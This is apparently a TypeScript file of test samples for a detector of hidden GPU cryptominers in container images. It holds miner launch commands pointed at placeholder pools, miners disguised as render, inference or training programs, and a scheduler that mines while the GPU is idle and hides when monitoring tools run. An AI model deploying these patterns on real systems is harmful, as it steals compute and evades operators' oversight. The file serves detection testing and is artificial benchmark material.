import { buildCubin, buildFatbin } from '../../../test/elf/build-fatbin.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';
import { ergo, ethereum, kaspa, ravencoin } from './wallets.ts';

/** PTX of an empty kernel: its name is all that it has. */
function ptx(...kernels: readonly string[]): Buffer {
  const bodies = kernels.map((name) => `.visible .entry ${name}(.param .u64 p0)\n{\n ret;\n}\n`);
  return Buffer.from(`.version 7.0\n.target sm_70\n.address_size 64\n${bodies.join('')}\0`);
}

function withFatbin(strings: readonly string[], fatbin: Buffer): Buffer {
  return program(strings, { sections: [{ name: '.nv_fatbin', content: fatbin }] });
}

export const samples = ofFamily('gpu-miner', [
  {
    id: 'gpu-miner-ethash-arguments',
    level: 'easy',
    technique: 'A GPU miner by its command line, as rented rigs are run (T1496.001).',
    files: {
      'miner/t-rex': program([
        'T-Rex NVIDIA GPU miner v0.26.8',
        '--lhr-tune',
        '--algo ethash',
        'Hashrate %s MH/s',
      ]),
      'miner/run.sh': `#!/bin/sh
exec /miner/t-rex -a kawpow -o stratum+tcp://pool.example.invalid:3636 -u ${ravencoin}.rig1 -p x
`,
    },
    config: { Cmd: ['/miner/run.sh'] },
    expect: 'malicious',
    where: 'miner/run.sh',
  },
  {
    id: 'gpu-miner-kernel-ptx',
    level: 'ordinary',
    technique:
      'The kernels of Ethash as PTX in an unnamed program (research on detecting miners by their kernels).',
    files: {
      'usr/bin/render': withFatbin(
        ['render engine'],
        buildFatbin([{ kind: 'ptx', content: ptx('ethash_search', 'ethash_calculate_dag_item') }]),
      ),
    },
    config: { Cmd: ['/usr/bin/render'] },
    expect: 'malicious',
    where: 'usr/bin/render',
  },
  {
    id: 'gpu-miner-kernel-compressed',
    level: 'hard',
    technique: 'The same kernels, compressed as the CUDA compiler does by default, names mangled.',
    files: {
      'usr/lib/libtransform.so': withFatbin(
        ['libtransform'],
        buildFatbin([
          {
            kind: 'ptx',
            compression: 'lz4',
            content: ptx('_Z14progpow_searchmPK6hash32', '_Z13kawpow_searchv'),
          },
        ]),
      ),
    },
    expect: 'malicious',
    where: 'usr/lib/libtransform.so',
  },
  {
    id: 'gpu-miner-kernel-cubin',
    level: 'hard',
    technique: 'Machine code only, for an algorithm of Ergo; no PTX beside it.',
    files: {
      'opt/infer/engine': withFatbin(
        ['inference'],
        buildFatbin([
          {
            kind: 'cubin',
            compression: 'zstd',
            content: buildCubin(['autolykos_BlockMining', 'InitPrehash']),
          },
        ]),
      ),
    },
    expect: 'malicious',
    where: 'opt/infer/engine',
  },
  {
    id: 'gpu-miner-kaspa-flags',
    level: 'ordinary',
    technique: 'A multi-algorithm miner under another name, wallet in the environment of the image.',
    files: {
      'app/train.sh':
        '#!/bin/bash\n./bench --algo kheavyhash --server "$POOL" --user "$WALLET.$(hostname)" --ssl 1 --api 10050\n',
      'app/bench': program([
        'lolMiner',
        'kHeavyHash',
        'Share accepted (%d ms)',
        'Average speed (15s): %s Mh/s',
      ]),
    },
    config: { Cmd: ['/app/train.sh'], Env: ['POOL=pool.example.invalid:5555', `WALLET=${kaspa}`] },
    expect: 'malicious',
    where: 'app/train.sh',
  },
  {
    id: 'gpu-miner-opencl-source',
    level: 'hard',
    technique: 'An OpenCL kernel that is compiled on the machine, its macros those of a miner.',
    files: {
      'srv/kernels/k.cl': `#define KECCAKF_1600_RNDS 24
#define ETHASH_DATASET_PARENTS 256
#define ACCESSES 64
__kernel void search(__global volatile uint* restrict g_output, __constant uint2 const* g_header,
  __global ulong8 const* _g_dag, uint DAG_SIZE, ulong start_nonce, ulong target) { }
__kernel void GenerateDAG(uint start, __global const uint16 *_Cache, __global uint16 *_DAG0, uint light_size) { }
`,
      'srv/run.py': `import pyopencl as cl
from worker import Stratum
Stratum("192.0.2.90", 4444, "${ethereum}").serve(cl.Program(cl.create_some_context(), open("/srv/kernels/k.cl").read()))
`,
    },
    config: { Cmd: ['python3', '/srv/run.py'] },
    expect: 'malicious',
    where: 'srv/kernels/k.cl',
  },
  {
    id: 'gpu-miner-overclock',
    level: 'ordinary',
    technique:
      'Sets clocks and power limits of the cards for mining, then starts behind a training job (T1496.001).',
    files: {
      'root/oc.sh': `#!/bin/bash
nvidia-smi -pm 1; nvidia-smi -pl 120; nvidia-smi -lgc 1500
nvidia-settings -a '[gpu:0]/GPUMemoryTransferRateOffsetAllPerformanceLevels=2400'
screen -dmS m ./rigel -a autolykos2 -o stratum+ssl://pool.example.invalid:3443 -u ${ergo} -w $(hostname)
python3 /root/train.py
`,
      'root/train.py': 'import time\nwhile True:\n    print("epoch")\n    time.sleep(60)\n',
    },
    config: { Cmd: ['/root/oc.sh'] },
    expect: 'malicious',
    where: 'root/oc.sh',
  },
  {
    id: 'gpu-miner-idle-watch',
    level: 'hard',
    technique:
      'Mines only while nvidia-smi shows the card idle, and hides when somebody looks (T1497, T1496.001).',
    files: {
      'opt/jobs/scheduler.py': `import subprocess, time
P = None
while True:
    u = int(subprocess.check_output(["nvidia-smi", "--query-gpu=utilization.gpu", "--format=csv,noheader,nounits"]).split()[0])
    seen = subprocess.run("pgrep -x 'htop|top|nvtop|ps'", shell=True).returncode == 0
    if P is None and u < 5 and not seen:
        P = subprocess.Popen(["/opt/jobs/.c", "--algo", "ethash", "--pool", "203.0.113.80:4444", "--user", "${ethereum}"])
    elif P is not None and seen:
        P.kill(); P = None
    time.sleep(5)
`,
    },
    config: { Cmd: ['python3', '/opt/jobs/scheduler.py'] },
    expect: 'malicious',
    where: 'opt/jobs/scheduler.py',
  },
]);
